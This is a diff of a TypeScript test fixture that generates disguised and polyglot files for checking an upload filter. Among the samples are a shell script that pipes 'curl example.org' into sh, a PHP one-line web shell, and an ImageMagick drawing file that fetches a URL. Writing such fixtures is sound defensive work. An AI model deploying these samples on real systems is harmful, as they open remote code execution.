@@ -23,7 +23,7 @@ function hugePng(): Buffer {
   return Buffer.concat([start, pngChunk('IHDR', header), pngChunk('IDAT', deflateSync(Buffer.alloc(100_000)))])
 }
 
-/** Returns files that only claim to be a picture, or contain more than a picture. */
+/** Returns files that only claim to be something, or contain more than they claim. */
 async function listHostileFiles(): Promise<Record<string, Buffer>> {
   const [jpeg, png, webp, gif] = await Promise.all([
     plain()
@@ -49,8 +49,8 @@ async function listHostileFiles(): Promise<Record<string, Buffer>> {
     'html after the start of a jpeg': Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), text]),
     program: Buffer.from('#!/bin/sh\ncurl example.org | sh\n'),
     php: Buffer.from('<?php system($_GET["x"]); ?>'),
-    pdf: Buffer.from('%PDF-1.7\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>'),
-    zip: Buffer.from('504b0304140000000800', 'hex'),
+    'quicktime film': Buffer.concat([Buffer.from([0, 0, 0, 20]), Buffer.from('ftypqt  '), Buffer.alloc(8), text]),
+    'compiled program': Buffer.concat([Buffer.from('7f454c46020101', 'hex'), Buffer.alloc(60)]),
     'list of drawing commands': Buffer.from(
       'push graphic-context\nfill "url(https://example.org/)"\npop graphic-context',
     ),
@@ -75,7 +75,7 @@ const hostileNames = [
 ]
 
 /** Returns 100 uploads: each file under each name. `isPicture`: whether the file can be decoded as a picture. */
-export async function listHostilePictures() {
+export async function listHostileUploads() {
   const files = Object.entries(await listHostileFiles())
   return files.flatMap(([kind, file]) =>
     hostileNames.map((name) => ({
